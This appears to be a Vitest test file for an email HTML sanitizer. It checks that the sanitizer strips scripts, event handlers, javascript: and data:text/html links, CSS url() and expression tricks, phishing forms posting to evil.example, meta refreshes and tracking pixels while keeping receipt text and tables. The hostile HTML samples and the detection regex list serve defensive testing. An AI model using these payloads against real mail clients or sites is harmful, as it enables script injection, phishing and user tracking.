// inertHtml over what hostile senders send: each trick leaves nothing that could run, submit,
// navigate or load, while what the email says (and an ordinary receipt's table) survives.
import { describe, expect, it } from "vitest";
import { BLOCKED_IMAGE_MARKER, inertHtml } from "@/lib/mail/inert-html";
import { HOSTILE_BENIGN_TEXT, HOSTILE_HTML } from "../support/hostile-email";

/** What no output may contain, whatever the input: each would run, submit, navigate or load something. */
const NEVER = [
  /<script/i,
  /<style/i,
  /<(?:iframe|frame|object|embed|applet|form|input|button|textarea|select|meta|base|link|svg|math|video|audio|source)\b/i,
  /<a\b/i,
  /\son[a-z]+\s*=/i,
  /\s(?:href|action|formaction|srcset|background|poster|data|xlink:href)\s*=/i,
  /\ssrc\s*=\s*"(?!data:image\/)/i,
  /url\s*\(/i,
  /@import/i,
  /expression\s*\(/i,
  /image-set\s*\(/i,
  /javascript:|vbscript:|data:text/i,
];

const cases: { name: string; html: string; kept?: string[]; gone?: string[] }[] = [
  {
    name: "a script element",
    html: `<p>Total $5</p><script>alert(1)</script>`,
    kept: ["<p>Total $5</p>"],
    gone: ["alert"],
  },
  { name: "a script with a remote src", html: `<script src="https://evil.example/x.js"></script>ok`, kept: ["ok"] },
  { name: "an event handler on an image", html: `<img src=x onerror="alert(1)" alt="Logo">`, kept: ["[Logo]"] },
  { name: "event handlers on text", html: `<p onclick="alert(1)" onmouseover="x()">Paid</p>`, kept: ["<p>Paid</p>"] },
  { name: "a javascript: link", html: `<a href="javascript:alert(1)">Track</a>`, kept: ["<span>Track</span>"] },
  {
    name: "a mixed-case javascript: link with spaces",
    html: `<a href="  JaVaScRiPt:alert(1)">Manage</a>`,
    kept: ["<span>Manage</span>"],
  },
  {
    name: "an entity-encoded javascript: link",
    html: `<a href="jav&#x61;script:alert(1)">Go</a>`,
    kept: ["<span>Go</span>"],
  },
  {
    name: "a data:text/html link",
    html: `<a href="data:text/html,<script>alert(1)</script>">View</a>`,
    kept: ["View"],
  },
  { name: "a vbscript: link", html: `<a href="vbscript:msgbox(1)">Old</a>`, kept: ["<span>Old</span>"] },
  {
    name: "an https link (text kept, address as a title, not followable)",
    html: `<a href="https://shop.example/orders/1" target="_top">Order</a>`,
    kept: ['<span title="https://shop.example/orders/1">Order</span>'],
    gone: ["target"],
  },
  {
    name: "a mailto link",
    html: `<a href="mailto:help@shop.example">Help</a>`,
    kept: ['title="mailto:help@shop.example"'],
  },
  {
    name: "inline CSS loading a remote background",
    html: `<div style="color:red;background:url(https://tracker.example/bg.png);background-color:#fff">x</div>`,
    kept: ['<div style="color:red;background-color:#fff">x</div>'],
    gone: ["tracker.example"],
  },
  {
    name: "a CSS escape hiding url(",
    html: `<p style="background:u\\72l(https://t.example/x)">Hi</p>`,
    kept: ["<p>Hi</p>"],
  },
  { name: "CSS expression()", html: `<p style="width:expression(alert(1))">Hi</p>`, kept: ["<p>Hi</p>"] },
  {
    name: "CSS image-set()",
    html: `<p style="background-image:image-set('https://t.example/x' 1x)">Hi</p>`,
    kept: ["<p>Hi</p>"],
  },
  {
    name: "harmless CSS functions",
    html: `<p style="color:rgb(1, 2, 3);width:calc(100% - 2px)">Hi</p>`,
    kept: ["rgb(1, 2, 3)", "calc(100% - 2px)"],
  },
  {
    name: "a style element with @import and url()",
    html: `<style>@import url("https://tracker.example/a.css"); body{background:url(https://tracker.example/b.png)}</style><p>after</p>`,
    kept: ["<p>after</p>"],
    gone: ["tracker.example", "body{"],
  },
  {
    name: "a form",
    html: `<form action="https://evil.example/phish" method="post"><input name="card"><button formaction="https://evil.example/b">Confirm</button></form>`,
    kept: ["Confirm"],
    gone: ["evil.example"],
  },
  {
    name: "a meta refresh",
    html: `<meta http-equiv="refresh" content="0;url=https://evil.example/">Hi`,
    kept: ["Hi"],
    gone: ["refresh"],
  },
  {
    name: "a base href",
    html: `<base href="https://evil.example/"><p>Hi</p>`,
    kept: ["<p>Hi</p>"],
    gone: ["evil.example"],
  },
  {
    name: "a style sheet link",
    html: `<link rel="stylesheet" href="https://tracker.example/x.css"><p>Hi</p>`,
    kept: ["<p>Hi</p>"],
  },
  {
    name: "a script inside svg",
    html: `<svg><script>alert(1)</script><image href="https://t.example/x"/></svg>ok`,
    kept: ["ok"],
    gone: ["alert"],
  },
  {
    name: "svg foreignObject",
    html: `<svg><foreignObject><iframe src="https://evil.example"></iframe></foreignObject></svg>ok`,
    kept: ["ok"],
  },
  {
    name: "an iframe",
    html: `<iframe src="https://evil.example/f" srcdoc="<script>alert(1)</script>"></iframe>ok`,
    kept: ["ok"],
    gone: ["srcdoc"],
  },
  {
    name: "object and embed",
    html: `<object data="https://evil.example/o.swf"></object><embed src="https://evil.example/e.swf">ok`,
    kept: ["ok"],
  },
  {
    name: "a remote tracking pixel",
    html: `<img src="https://tracker.example/pixel.gif?u=1" width="1" height="1">`,
    kept: [BLOCKED_IMAGE_MARKER],
    gone: ["tracker.example", "<img"],
  },
  {
    name: "a protocol-relative image",
    html: `<img src="//tracker.example/p.gif" alt="Logo">`,
    kept: ["[Logo]"],
    gone: ["<img"],
  },
  { name: "a cid: inline image", html: `<img src="cid:logo@shop" alt="Logo">`, kept: ["[Logo]"], gone: ["cid:"] },
  {
    name: "an SVG data image",
    html: `<img src="data:image/svg+xml;base64,PHN2Zz4=" alt="Logo">`,
    kept: ["[Logo]"],
    gone: ["<img"],
  },
  {
    name: "srcset beside an embedded image",
    html: `<img srcset="https://tracker.example/x.png 2x" src="data:image/png;base64,iVBORw0KGgo=" alt="dot">`,
    kept: ['<img src="data:image/png;base64,iVBORw0KGgo=" alt="dot" />'],
    gone: ["tracker.example"],
  },
  {
    name: "background attributes on tables",
    html: `<table background="https://tracker.example/t.png"><tr><td background="https://tracker.example/c.png">Total</td></tr></table>`,
    kept: ["<td>Total</td>"],
    gone: ["tracker.example"],
  },
  {
    name: "video, audio and their sources",
    html: `<video poster="https://t.example/p.png"><source src="https://t.example/v.mp4"></video><audio src="https://t.example/a.mp3"></audio>ok`,
    kept: ["ok"],
  },
];

describe("inertHtml", () => {
  it.each(cases)("$name", ({ html, kept = [], gone = [] }) => {
    const inert = inertHtml(html);
    for (const pattern of NEVER) expect(inert).not.toMatch(pattern);
    for (const text of kept) expect(inert).toContain(text);
    for (const text of gone) expect(inert).not.toContain(text);
  });

  it("keeps an ordinary receipt's table, its layout attributes and its text", () => {
    const receipt = `<table width="600" cellpadding="4" border="0" style="border-collapse:collapse;font-family:'Helvetica Neue', Arial">
<tr><th align="left">Item</th><th align="right">Price</th></tr>
<tr><td>Pro plan (monthly)</td><td align="right" style="font-weight:bold">€19.00</td></tr>
<tr><td colspan="2" bgcolor="#f1f5f9"><strong>Total</strong> €19.00</td></tr>
</table><p>Receipt #1042 · paid 3 March 2026</p>`;
    const inert = inertHtml(receipt);
    for (const text of [
      '<table width="600" cellpadding="4" border="0"',
      "border-collapse:collapse",
      '<th align="left">Item</th>',
      '<td align="right" style="font-weight:bold">€19.00</td>',
      '<td colspan="2" bgcolor="#f1f5f9"><strong>Total</strong> €19.00</td>',
      "<p>Receipt #1042 · paid 3 March 2026</p>",
    ]) {
      expect(inert).toContain(text);
    }
  });

  it("leaves the whole hostile receipt inert with its words intact", () => {
    const inert = inertHtml(HOSTILE_HTML);
    for (const pattern of NEVER) expect(inert).not.toMatch(pattern);
    for (const host of ["tracker.example", "evil.example", "__pwned", "alert"]) expect(inert).not.toContain(host);
    for (const text of [...HOSTILE_BENIGN_TEXT, "$42.00", "Paid with card ending 4242."]) expect(inert).toContain(text);
    expect(inert).toContain('<span title="https://hostile-shop.example/orders/4242">Order details</span>');
  });
});
